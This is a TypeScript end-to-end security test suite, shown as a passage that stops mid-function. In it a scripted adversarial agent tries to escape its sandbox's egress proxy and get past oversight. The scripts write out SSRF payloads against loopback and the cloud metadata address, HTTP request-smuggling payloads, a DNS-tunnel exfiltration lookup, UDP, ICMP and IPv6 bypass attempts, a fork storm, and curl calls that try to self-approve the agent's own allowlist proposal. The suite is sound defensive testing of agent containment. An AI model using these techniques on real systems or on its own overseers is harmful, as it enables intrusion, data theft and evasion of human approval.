import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { names } from '../../machines/names.js';
import { ensureBuilt } from '../support/cli.js';
import { json, show } from '../support/e2e.js';
import {
  addressOn,
  blackholeRoute,
  type Connection,
  connectNetwork,
  controlRequests,
  type EgressAuditEntry,
  egressEntries,
  startUpstreams,
  type UpstreamNet,
} from '../support/egress.js';
import { ensureTestImages } from '../support/images.js';
import { type AttachedRun, agentName, bottleContainers, bottleFolder, cli, finishBottleSuite, leftovers, PRELUDE, results, roleOf, runAttached, type SecBottle, track } from '../support/security.js';

/**
 * One technique, one test (issue 13, item 2): an adversarial agent in a real bottle sends raw
 * bytes to its egress proxy and to its supervise sidecar, one attempt per technique, and each
 * `it` decides one of them from three places: what the agent got back, what every upstream
 * server saw (each logs every TCP connection it accepts) and what `bottle audit --json` holds.
 *
 * Network rule: every upstream is a container of this file on its own internal network, opted
 * in with `private_networks`. Loopback, link-local and metadata literals are only ever sent to
 * the egress proxy, which must refuse them before dialling; a blackhole route for
 * 169.254.0.0/16 in the sidecar's namespace makes sure nothing could leave even if it did not.
 */

const identities = new Set<string>();
let sidecarImage = '';
let up: UpstreamNet;
const baseline: Record<string, number> = {};

beforeAll(async () => {
  ensureBuilt();
  sidecarImage = (await ensureTestImages()).sidecar;
  up = await startUpstreams(sidecarImage, [
    { name: 'allowed', aliases: ['allowed.test'], ports: ['80', '8443'] },
    { name: 'denied', aliases: ['denied.test'], ports: ['80', '443'] },
    { name: 'wildsub', aliases: ['a.wild.test'], ports: ['80'] },
    { name: 'wildbare', aliases: ['wild.test'], ports: ['80', '443'] },
    { name: 'lookalike', aliases: ['evilwild.test', 'a.wild.test.evil.test'], ports: ['80', '443'] },
  ]);
  // Positive control: a peer on the network reaches each server, so "saw nothing" means stopped.
  const targets = ['allowed.test:80', 'allowed.test:8443', 'denied.test:80', 'denied.test:443', 'a.wild.test:80', 'wild.test:80', 'evilwild.test:80', 'a.wild.test.evil.test:443'];
  const control = await controlRequests(sidecarImage, up.network, targets);
  for (const t of targets) expect(control.find((l) => l.startsWith(`${t} `)), control.join('\n')).toMatch(/ 200 hello from /);
  for (const [name, u] of Object.entries(up.upstreams)) baseline[name] = (await u.connections()).length;
}, 120_000);

afterAll(async () => {
  await finishBottleSuite(identities);
});

async function since(name: string): Promise<Connection[]> {
  return (await up.upstreams[name]!.connections()).slice(baseline[name]);
}

/** The REQ lines (`REQ port method url host=H`) an upstream logged since the control. */
async function requestsSeen(name: string): Promise<string[]> {
  const lines = (await up.upstreams[name]!.output()).split('\n').filter((l) => l.startsWith('REQ '));
  return lines.slice(baseline[name]);
}

// ---------------------------------------------------------------------------------------
// The techniques: raw requests to egress:3128

interface Technique {
  key: string;
  /** The `it` title: the threat and the technique. */
  title: string;
  /** The bytes sent on one connection to the proxy. */
  raw: string;
  /** Every status line the proxy must answer with, in order (or any one of several such lists). */
  statuses: number[] | number[][];
  /** The audit line each refusal leaves (method, host as the proxy read it, reason). */
  audit: { method?: string | null; host?: string | null | RegExp; reason: RegExp }[];
  /** Upstreams that must have accepted no connection. */
  untouched: string[];
  /** Ports of the allowed server that must have accepted no connection. */
  allowedPortsUntouched?: number[];
  /** Set when the first request is a control that must reach `allowed` with this path. */
  reaches?: string;
}

const get = (authority: string, host = authority, path = '/') => `GET http://${authority}${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const connect = (target: string) => `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`;
const LONG = `${Array.from({ length: 5 }, () => 'a'.repeat(60)).join('.')}.wild.test`;
/** Every upstream no technique may reach (the allowed one is reached by the pipelined controls, checked on its own). */
const ALL = ['denied', 'wildsub', 'wildbare', 'lookalike'];
const NOT_ALLOWED = ['denied', 'wildbare', 'lookalike'];

const dottedQuad = /plain dotted quad/;
const badV6 = /not a valid IPv6 literal/;
const notListed = /not in the allowlist|address/;

/** DENIED_IP and ALLOWED_IP are replaced by the upstreams' addresses before the agent runs. */
const TECHNIQUES: Technique[] = [
  // IP literals in every spelling, plain and CONNECT
  { key: 'ip_decimal', title: 'loopback as a decimal integer (http://2130706433/) is refused before any dial', raw: get('2130706433'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_decimal_connect', title: 'loopback as a decimal integer in CONNECT (2130706433:443) is refused', raw: connect('2130706433:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_hex', title: 'loopback in hex (http://0x7f000001/) is refused', raw: get('0x7f000001'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_hex_connect', title: 'loopback in hex in CONNECT (0x7f000001:443) is refused', raw: connect('0x7f000001:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_octal', title: 'loopback in octal (http://0177.0.0.1/) is refused', raw: get('0177.0.0.1'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_octal_connect', title: 'loopback in octal in CONNECT (0177.0.0.1:443) is refused', raw: connect('0177.0.0.1:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_short', title: 'loopback in short form (http://127.1/) is refused', raw: get('127.1'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_short_connect', title: 'loopback in short form in CONNECT (127.1:443) is refused', raw: connect('127.1:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_mixed_hex', title: 'loopback with a hex first part (http://0x7f.1/) is refused', raw: get('0x7f.1'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_zero', title: 'the unspecified address as a number (http://0/) is refused', raw: get('0'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'ip_unspecified', title: 'the unspecified address 0.0.0.0 is refused', raw: get('0.0.0.0'), statuses: [403], audit: [{ method: 'GET', host: '0.0.0.0', reason: notListed }], untouched: ALL },
  { key: 'ip_loopback', title: 'loopback as a dotted quad (http://127.0.0.1/) is refused', raw: get('127.0.0.1'), statuses: [403], audit: [{ method: 'GET', host: '127.0.0.1', reason: notListed }], untouched: ALL },
  { key: 'ip_v6_mapped', title: 'loopback IPv6-mapped (http://[::ffff:127.0.0.1]/) is refused', raw: get('[::ffff:127.0.0.1]'), statuses: [403], audit: [{ method: 'GET', host: /^::ffff:(7f00:1|127\.0\.0\.1)$/, reason: notListed }], untouched: ALL },
  { key: 'ip_v6_mapped_connect', title: 'loopback IPv6-mapped in CONNECT ([::ffff:7f00:1]:443) is refused', raw: connect('[::ffff:7f00:1]:443'), statuses: [403], audit: [{ method: 'CONNECT', host: /^::ffff:(7f00:1|127\.0\.0\.1)$/, reason: notListed }], untouched: ALL },
  { key: 'ip_v6_loopback', title: 'IPv6 loopback (http://[::1]/) is refused', raw: get('[::1]'), statuses: [403], audit: [{ method: 'GET', host: '::1', reason: notListed }], untouched: ALL },
  { key: 'ip_zone', title: 'an IPv6 zone id (http://[fe80::1%25eth0]/) is refused', raw: get('[fe80::1%25eth0]'), statuses: [400], audit: [{ method: 'GET', host: null, reason: badV6 }], untouched: ALL },
  { key: 'ip_zone_connect', title: 'an IPv6 zone id in CONNECT ([fe80::1%eth0]:443) is refused', raw: connect('[fe80::1%eth0]:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: badV6 }], untouched: ALL },
  { key: 'meta_quad', title: 'the metadata address (http://169.254.169.254/) is refused', raw: get('169.254.169.254'), statuses: [403], audit: [{ method: 'GET', host: '169.254.169.254', reason: notListed }], untouched: ALL },
  { key: 'meta_quad_connect', title: 'the metadata address in CONNECT (169.254.169.254:443) is refused', raw: connect('169.254.169.254:443'), statuses: [403], audit: [{ method: 'CONNECT', host: '169.254.169.254', reason: notListed }], untouched: ALL },
  { key: 'meta_decimal', title: 'the metadata address as a decimal integer (http://2852039166/) is refused', raw: get('2852039166'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'meta_hex', title: 'the metadata address in hex (http://0xa9fea9fe/) is refused', raw: get('0xa9fea9fe'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'meta_octal', title: 'the metadata address in octal (http://0251.0376.0251.0376/) is refused', raw: get('0251.0376.0251.0376'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  { key: 'meta_v6_mapped', title: 'the metadata address IPv6-mapped (http://[::ffff:169.254.169.254]/) is refused', raw: get('[::ffff:169.254.169.254]'), statuses: [403], audit: [{ method: 'GET', host: /^::ffff:(a9fe:a9fe|169\.254\.169\.254)$/, reason: notListed }], untouched: ALL },
  { key: 'private_quad', title: 'a denied server’s private address as a dotted quad is refused (IP targets only when listed)', raw: get('DENIED_IP'), statuses: [403], audit: [{ method: 'GET', host: /^\d+\.\d+\.\d+\.\d+$/, reason: /not in the allowlist/ }], untouched: ALL },
  { key: 'private_quad_connect', title: 'a denied server’s private address in CONNECT is refused', raw: connect('DENIED_IP:443'), statuses: [403], audit: [{ method: 'CONNECT', host: /^\d+\.\d+\.\d+\.\d+$/, reason: /not in the allowlist/ }], untouched: ALL },
  { key: 'allowed_by_ip', title: 'an allowed host reached by its address instead of its name is refused', raw: get('ALLOWED_IP'), statuses: [403], audit: [{ method: 'GET', host: /^\d+\.\d+\.\d+\.\d+$/, reason: /not in the allowlist/ }], untouched: ALL },
  { key: 'private_decimal', title: 'a denied server’s address as a decimal integer is refused', raw: get('DENIED_DECIMAL'), statuses: [400], audit: [{ method: 'GET', host: null, reason: dottedQuad }], untouched: ALL },
  // Host names
  { key: 'name_nul', title: 'a host name with a NUL byte (allowed.test\\0.denied.test) is refused', raw: get('allowed.test\0.denied.test'), statuses: [400], audit: [{ method: null, host: null, reason: /malformed request/ }], untouched: ALL },
  { key: 'name_nul_encoded', title: 'a host name with an encoded NUL (allowed.test%00.denied.test) is refused', raw: get('allowed.test%00.denied.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /not a valid host name label/ }], untouched: ALL },
  { key: 'name_crlf', title: 'a host name with CR LF in the request line (header injection) is refused', raw: 'GET http://denied.test\r\nHost: allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n', statuses: [400], audit: [{ method: null, host: null, reason: /malformed request/ }], untouched: ALL },
  { key: 'name_crlf_encoded', title: 'a CONNECT target with an encoded CR LF (allowed.test%0d%0a:443) is refused', raw: connect('allowed.test%0d%0aX-A:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: /bad target/ }], untouched: ALL },
  { key: 'name_long', title: 'a host name over 255 characters under an allowed wildcard is refused', raw: get(LONG), statuses: [400], audit: [{ method: 'GET', host: null, reason: /longer than 253/ }], untouched: ALL },
  { key: 'name_long_connect', title: 'a host name over 255 characters under an allowed wildcard in CONNECT is refused', raw: connect(`${LONG}:443`), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: /longer than 253/ }], untouched: ALL },
  { key: 'name_trailing_dot', title: 'a denied name with a trailing dot (denied.test.) is still denied', raw: get('denied.test.'), statuses: [403], audit: [{ method: 'GET', host: 'denied.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_trailing_dot_connect', title: 'a denied name with a trailing dot in CONNECT (denied.test.:443) is still denied', raw: connect('denied.test.:443'), statuses: [403], audit: [{ method: 'CONNECT', host: 'denied.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_wild_bare_dot', title: 'the bare domain of a wildcard with a trailing dot (wild.test.) is still denied', raw: get('wild.test.'), statuses: [403], audit: [{ method: 'GET', host: 'wild.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_mixed_case', title: 'a denied name in mixed case (DeNiEd.TeSt) is still denied', raw: get('DeNiEd.TeSt'), statuses: [403], audit: [{ method: 'GET', host: 'denied.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_mixed_case_connect', title: 'the bare domain of a wildcard in upper case in CONNECT (WILD.TEST:443) is still denied', raw: connect('WILD.TEST:443'), statuses: [403], audit: [{ method: 'CONNECT', host: 'wild.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_lookalike_prefix', title: 'a look-alike of a wildcard without the dot (evilwild.test for *.wild.test) is denied', raw: get('evilwild.test'), statuses: [403], audit: [{ method: 'GET', host: 'evilwild.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_lookalike_suffix', title: 'a look-alike that contains the wildcard domain (a.wild.test.evil.test) is denied', raw: get('a.wild.test.evil.test'), statuses: [403], audit: [{ method: 'GET', host: 'a.wild.test.evil.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_lookalike_connect', title: 'a look-alike of a wildcard in CONNECT (a.wild.test.evil.test:443) is denied', raw: connect('a.wild.test.evil.test:443'), statuses: [403], audit: [{ method: 'CONNECT', host: 'a.wild.test.evil.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'name_star', title: 'a literal wildcard as the host (*.wild.test) is refused', raw: get('*.wild.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /not a valid host name label/ }], untouched: ALL },
  // Userinfo
  { key: 'userinfo', title: 'userinfo naming the allowed host (http://allowed.test@denied.test/) is refused', raw: get('allowed.test@denied.test', 'denied.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /userinfo/ }], untouched: ALL },
  { key: 'userinfo_port', title: 'userinfo with a port (http://allowed.test:80@denied.test/) is refused', raw: get('allowed.test:80@denied.test', 'allowed.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /userinfo/ }], untouched: ALL },
  { key: 'userinfo_reverse', title: 'userinfo naming the denied host (http://denied.test@allowed.test/) is refused', raw: get('denied.test@allowed.test', 'allowed.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /userinfo/ }], untouched: ALL },
  { key: 'userinfo_encoded', title: 'an encoded @ in the host (allowed.test%40denied.test) is refused', raw: get('allowed.test%40denied.test'), statuses: [400], audit: [{ method: 'GET', host: null, reason: /not a valid host name label/ }], untouched: ALL },
  { key: 'userinfo_connect', title: 'userinfo in a CONNECT target (allowed.test@denied.test:443) is refused', raw: connect('allowed.test@denied.test:443'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: /bad target/ }], untouched: ALL },
  // Host header vs absolute URI
  { key: 'host_two', title: 'two Host headers, the allowed one first, are refused', raw: 'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: denied.test\r\nConnection: close\r\n\r\n', statuses: [400], audit: [{ method: 'GET', host: 'allowed.test', reason: /more than one Host header/ }], untouched: ALL },
  { key: 'host_port', title: 'a Host header naming another port of the allowed host is refused', raw: get('allowed.test', 'allowed.test:8443'), statuses: [400], audit: [{ method: 'GET', host: 'allowed.test', reason: /Host header/ }], untouched: ALL },
  { key: 'host_missing', title: 'an HTTP/1.1 request with no Host header is refused', raw: 'GET http://allowed.test/ HTTP/1.1\r\nConnection: close\r\n\r\n', statuses: [400], audit: [{ method: 'GET', host: 'allowed.test', reason: /no Host header/ }], untouched: ALL },
  { key: 'origin_form', title: 'an origin-form request with the denied host in Host (GET / Host: denied.test) is refused', raw: 'GET / HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n', statuses: [400], audit: [{ method: 'GET', host: null, reason: /origin-form/ }], untouched: ALL },
  { key: 'https_plain', title: 'an https:// absolute URI in a plain request is refused', raw: 'GET https://denied.test/ HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n', statuses: [400], audit: [{ method: 'GET', host: null, reason: /https:\/\// }], untouched: ALL },
  // Request smuggling
  {
    key: 'smuggle_cl_te',
    title: 'Content-Length with Transfer-Encoding hiding a denied request in the body is refused',
    raw: 'POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n',
    statuses: [400],
    // Node's parser refuses the pair before the proxy's own check sees it (either is the same refusal).
    audit: [{ reason: /malformed request|both Content-Length and Transfer-Encoding/ }],
    untouched: ALL,
  },
  {
    key: 'smuggle_te_te',
    title: 'Transfer-Encoding given twice (chunked, identity) is refused',
    raw: 'POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n',
    statuses: [400],
    audit: [{ reason: /malformed request|Transfer-Encoding/ }],
    untouched: ALL,
  },
  {
    key: 'smuggle_cl_cl',
    title: 'two different Content-Length headers are refused',
    raw: 'POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n',
    statuses: [400],
    audit: [{ method: null, host: null, reason: /malformed request/ }],
    untouched: ALL,
  },
  {
    key: 'smuggle_obs_fold_te',
    title: 'an obs-folded Transfer-Encoding beside Content-Length is refused',
    raw: 'POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n',
    statuses: [400],
    audit: [{ reason: /malformed request|Transfer-Encoding/ }],
    untouched: ALL,
  },
  {
    key: 'smuggle_obs_fold_host',
    title: 'an obs-folded second Host line naming the denied host is refused',
    raw: 'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-A: 1\r\n Host: denied.test\r\nConnection: close\r\n\r\n',
    statuses: [400],
    audit: [{ method: null, host: null, reason: /malformed request/ }],
    untouched: ALL,
  },
  {
    key: 'smuggle_pipeline',
    title: 'a denied request pipelined behind an allowed one on one connection is refused on its own',
    raw: `GET http://allowed.test/pipelined-first HTTP/1.1\r\nHost: allowed.test\r\n\r\n${get('denied.test', 'denied.test', '/pipelined-second')}`,
    statuses: [200, 403],
    audit: [{ method: 'GET', host: 'denied.test', reason: /not in the allowlist/ }],
    untouched: NOT_ALLOWED,
    reaches: '/pipelined-first',
  },
  {
    key: 'smuggle_pipeline_connect',
    title: 'a CONNECT to a denied host pipelined behind an allowed request is refused',
    raw: `GET http://allowed.test/pipelined-connect HTTP/1.1\r\nHost: allowed.test\r\n\r\n${connect('denied.test:443')}`,
    // Node hands the socket to the CONNECT handler while the GET before it waits for its
    // upstream, so that GET may go unanswered; what matters is the CONNECT's refusal.
    statuses: [[403], [200, 403]],
    audit: [{ method: 'CONNECT', host: 'denied.test', reason: /not in the allowlist/ }],
    untouched: NOT_ALLOWED,
  },
  // CONNECT
  { key: 'connect_port', title: 'CONNECT to the allowed host on a port not allowed (allowed.test:8443) is refused; the server saw nothing there', raw: connect('allowed.test:8443'), statuses: [403], audit: [{ method: 'CONNECT', host: 'allowed.test', reason: /port 8443/ }], untouched: ALL, allowedPortsUntouched: [8443] },
  { key: 'connect_port_ssh', title: 'CONNECT to the allowed host on port 22 is refused', raw: connect('allowed.test:22'), statuses: [403], audit: [{ method: 'CONNECT', host: 'allowed.test', reason: /port 22/ }], untouched: ALL },
  { key: 'connect_denied_80', title: 'CONNECT to a denied host on port 80 is refused', raw: connect('denied.test:80'), statuses: [403], audit: [{ method: 'CONNECT', host: 'denied.test', reason: /not in the allowlist/ }], untouched: NOT_ALLOWED },
  { key: 'connect_no_port', title: 'CONNECT without a port is refused', raw: connect('allowed.test'), statuses: [400], audit: [{ method: 'CONNECT', host: null, reason: /needs a port/ }], untouched: ALL },
  { key: 'plain_port', title: 'a plain request to the allowed host on a port not allowed (allowed.test:8443) is refused', raw: get('allowed.test:8443'), statuses: [403], audit: [{ method: 'GET', host: 'allowed.test', reason: /port 8443/ }], untouched: ALL, allowedPortsUntouched: [8443] },
];

/** Sends each technique's bytes on its own connection to the proxy; prints RESULT key=base64(answer). */
const RAW_JS = `const net = require('net');
const fs = require('fs');
const list = JSON.parse(fs.readFileSync('/tmp/techniques.json', 'utf8'));
const [deniedIp, allowedIp] = process.argv.slice(2);
const decimal = deniedIp.split('.').reduce((n, o) => n * 256 + Number(o), 0);
const one = (t) => new Promise((resolve) => {
  const raw = Buffer.from(t.raw, 'base64').toString('latin1')
    .replace(/DENIED_DECIMAL/g, String(decimal)).replace(/DENIED_IP/g, deniedIp).replace(/ALLOWED_IP/g, allowedIp);
  const chunks = [];
  const s = net.connect(3128, 'egress');
  const done = () => { clearTimeout(timer); s.destroy(); resolve(t.key + '=' + Buffer.concat(chunks).toString('base64')); };
  const timer = setTimeout(done, 4000);
  s.on('connect', () => s.write(Buffer.from(raw, 'latin1')));
  s.on('data', (d) => chunks.push(d));
  s.on('close', done);
  s.on('error', done);
});
Promise.all(list.map(one)).then((lines) => { for (const l of lines) console.log('RESULT raw_' + l); });
`;

/** The supervise attacks (curl against $BOTTLE_SUPERVISE_URL), after the raw egress probes. */
const SUPERVISE_SH = String.raw`S=$BOTTLE_SUPERVISE_URL
# sv KEY METHOD PATH [BODY]: the status of one request to supervise
sv() {
  local key=$1 method=$2 path=$3
  if [ $# -ge 4 ]; then
    result "sv_$key" "$(curl -s -m 5 -o /dev/null -w '%{http_code}' -X "$method" -H 'content-type: application/json' --data "$4" "$S$path")"
  else
    result "sv_$key" "$(curl -s -m 5 -o /dev/null -w '%{http_code}' -X "$method" "$S$path")"
  fi
}
P='{"kind":"allowlist","reason":"reach denied","hosts":["denied.test"]}'
id=$(curl -s -m 5 -H 'content-type: application/json' --data "$P" "$S/proposals" | sed -n 's/.*"id":"\([^"]*\)".*/\1/p')
[ -n "$id" ] || id=none
result sv_id "$id"
D='{"status":"approved","decision":"approved","approved":true}'
sv put_one PUT "/proposals/$id" "$D"
sv patch_one PATCH "/proposals/$id" "$D"
sv post_one POST "/proposals/$id" "$D"
sv delete_one DELETE "/proposals/$id"
sv post_approve POST "/proposals/$id/approve" "$D"
sv post_root_approve POST "/approve" "{\"id\":\"$id\"}"
sv post_decisions POST "/decisions" "{\"$id\":{\"status\":\"approved\"}}"
sv put_decisions PUT "/decisions.json" "{\"$id\":{\"status\":\"approved\"}}"
sv put_current PUT "/current" '{"egress":{"allow":["denied.test"]}}'
sv post_approve_query POST "/proposals?approve=$id" "$D"
sv other_bottle POST /proposals '{"kind":"allowlist","reason":"for another","hosts":["denied.test"],"bottle":"other"}'
sv other_identity POST /proposals '{"kind":"allowlist","reason":"for another","hosts":["denied.test"],"identity":"other-bottle","run":"r-other"}'
sv self_approved POST /proposals '{"kind":"allowlist","reason":"pre-approved","hosts":["denied.test"],"status":"approved"}'
result sv_after "$(curl -s -m 5 "$S/proposals/$id" | tr -d '\n')"
`;

/** UDP straight at a denied server (no proxy) and a DNS question that carries data. */
const AROUND_SH = `export RES_OPTIONS='timeout:1 attempts:1'
result udp_direct "$(node -e '
const s = require("dgram").createSocket("udp4");
s.send(Buffer.from("x"), 53, process.argv[1], (e) => { console.log(e ? "error:" + e.code : "sent"); s.close(); });
' "$DENIED_IP")"
# ICMP without a raw socket: an unprivileged ICMP datagram socket (ping_group_range), echo to the denied server
result icmp_direct "$(perl -MSocket -e '
  socket(my $s, PF_INET, SOCK_DGRAM, 1) or do { print "socket:", ($!{EACCES} ? "EACCES" : $!+0); exit };
  my $pkt = pack("CCnnn", 8, 0, 0, 0, 1) . "x";
  defined(send($s, $pkt, 0, sockaddr_in(0, inet_aton($ARGV[0])))) ? print "sent" : print "send:", ($!{ENETUNREACH} ? "ENETUNREACH" : $!+0);
' "$DENIED_IP")"
# IPv6 around the proxy: the denied server by its IPv4-mapped IPv6 address, TCP and UDP over AF_INET6
result ipv6_tcp "$(node -e '
const s = require("net").connect({ host: "::ffff:" + process.argv[1], port: 80 });
const t = setTimeout(() => { console.log("timeout"); process.exit(0); }, 3000);
s.on("connect", () => { console.log("connected"); process.exit(0); });
s.on("error", (e) => { clearTimeout(t); console.log("error:" + e.code); });
' "$DENIED_IP")"
result ipv6_udp "$(node -e '
const s = require("dgram").createSocket("udp6");
s.send(Buffer.from("x"), 53, "::ffff:" + process.argv[1], (e) => { console.log(e ? "error:" + e.code : "sent"); s.close(); });
' "$DENIED_IP")"
result dns_tunnel "$(env -u HTTP_PROXY -u HTTPS_PROXY getent hosts c2VjcmV0LWRhdGE.denied.test >/dev/null 2>&1 && echo resolved || echo unresolved)"
result dns_tunnel_allowed "$(env -u HTTP_PROXY -u HTTPS_PROXY getent hosts c2VjcmV0LWRhdGE.a.wild.test >/dev/null 2>&1 && echo resolved || echo unresolved)"
`;

/** Forking without bound, last (the pids limit must hold it; then everything is killed again). */
const FORK_SH = `cat > /tmp/fork.js <<'BOTTLE_SEC_EOF'
const { spawn } = require('child_process');
const kids = [];
let ok = 0;
let err = 'none';
(async () => {
  for (let i = 0; i < 2000 && err === 'none'; i++) {
    await new Promise((res) => {
      const c = spawn('sleep', ['60'], { stdio: 'ignore' });
      c.once('spawn', () => { ok++; kids.push(c); res(); });
      c.once('error', (e) => { err = e.code || e.message; res(); });
    });
  }
  console.log('RESULT fork_ok=' + ok);
  console.log('RESULT fork_error=' + err);
  for (const k of kids) k.kill('SIGKILL');
})();
BOTTLE_SEC_EOF
node /tmp/fork.js
sleep 1
result after_fork "$(echo alive)"
`;

function script(): string {
  const list = TECHNIQUES.map((t) => ({ key: t.key, raw: Buffer.from(t.raw, 'latin1').toString('base64') }));
  return `${PRELUDE}cat > /tmp/techniques.json <<'BOTTLE_SEC_EOF'
${JSON.stringify(list)}
BOTTLE_SEC_EOF
cat > /tmp/raw.js <<'BOTTLE_SEC_EOF'
${RAW_JS}BOTTLE_SEC_EOF
${SUPERVISE_SH}result ready yes
if ! read -r -t 100 DENIED_IP ALLOWED_IP; then result stdin none; exit 3; fi
result stdin received
result sv_denied_after "$(curl -s -m 5 -o /dev/null -w '%{http_code}' http://denied.test/)"
node /tmp/raw.js "$DENIED_IP" "$ALLOWED_IP"
${AROUND_SH}result done yes
${FORK_SH}`;
}

async function proposalsOf(b: SecBottle, identity: string): Promise<{ id: string; status: string }[]> {
  const p = await cli(b, ['proposals', identity, '--json']);
  const doc = JSON.parse(p.stdout || '[]') as unknown;
  return (Array.isArray(doc) ? doc : ((doc as { proposals?: unknown[] }).proposals ?? [])) as { id: string; status: string }[];
}

/** The agent's pids limit (small, so the fork storm is short). */
const PIDS = 128;

const statusLines = (answer: string) => [...answer.matchAll(/^HTTP\/1\.[01] (\d{3}) /gm)].map((m) => Number(m[1]));

describe('one technique, one test: an adversarial agent against its egress proxy and supervise', () => {
  let b: SecBottle;
  let identity: string;
  let run: AttachedRun;
  let r: Record<string, string>;
  let audit: EgressAuditEntry[] = [];
  let supervise: Record<string, unknown>[] = [];
  let proposals: { id: string; status: string }[] = [];
  let proposalsAfter: { id: string; status: string }[] = [];
  let timeline: Record<string, unknown>[] = [];
  let observedPids: unknown;

  beforeAll(async () => {
    b = bottleFolder({
      prefix: 'bottle-tech-',
      agent: agentName('techniques'),
      bottle: 'probe',
      config: { runtime: 'runc', egress: { allow: ['allowed.test', '*.wild.test'] }, private_networks: [up.subnet], supervise: true, resources: { pids: PIDS } },
      prompt: 'try every technique',
      script: script(),
    });
    track(b.dir);
    identity = b.agent;
    identities.add(identity);
    const egress = names(identity).sidecar('egress');
    run = await runAttached(b, async () => {
      await connectNetwork(up.network, egress);
      // The safety net of the network rule: nothing for link-local could leave even if dialled.
      await blackholeRoute(egress, sidecarImage, '169.254.0.0/16');
      const denied = await addressOn(up.upstreams.denied!.container, up.network);
      // The agent has made its one proposal and tried to approve it: wait until the host has it.
      for (let i = 0; i < 60 && proposals.length === 0; i++) {
        proposals = await proposalsOf(b, identity);
        if (proposals.length === 0) await delay(500);
      }
      const agent = (await bottleContainers(identity)).find((c) => roleOf(c) === 'agent');
      observedPids = agent?.HostConfig.PidsLimit;
      return { stdin: `${denied} ${up.upstreams.allowed!.ip}\n` };
    }, 150_000);
    r = results(run.stdout);
    const a = await cli(b, ['audit', identity, '--json']);
    expect(a.code, show(a)).toBe(0);
    timeline = json<Record<string, unknown>[]>(a);
    audit = egressEntries(timeline);
    supervise = timeline.filter((e) => e.source === 'supervise');
    proposalsAfter = await proposalsOf(b, identity);
  }, 200_000);

  it('the agent ran every technique and the bottle ended', () => {
    expect(run.code, run.stderr).toBe(0);
    expect(r.stdin).toBe('received');
    expect(r.done, run.stdout).toBe('yes');
    for (const t of TECHNIQUES) expect(r[`raw_${t.key}`], t.key).toBeDefined();
  });

  for (const t of TECHNIQUES) {
    it(t.title, async () => {
      const answer = Buffer.from(r[`raw_${t.key}`] ?? '', 'base64').toString('latin1');
      const wanted = (Array.isArray(t.statuses[0]) ? t.statuses : [t.statuses]) as number[][];
      expect(wanted.map((w) => JSON.stringify(w)), `${t.key}: ${answer}`).toContain(JSON.stringify(statusLines(answer)));
      for (const want of t.audit) {
        const hit = audit.find(
          (e) =>
            e.decision === 'deny' &&
            (want.method === undefined || e.method === want.method) &&
            (want.host === undefined || (want.host instanceof RegExp ? want.host.test(e.host ?? '') : e.host === want.host)) &&
            want.reason.test(e.reason) &&
            e.bytes_up + e.bytes_down === 0,
        );
        expect(hit, `${t.key}: no audit line ${JSON.stringify({ ...want, host: String(want.host), reason: String(want.reason) })}`).toBeDefined();
      }
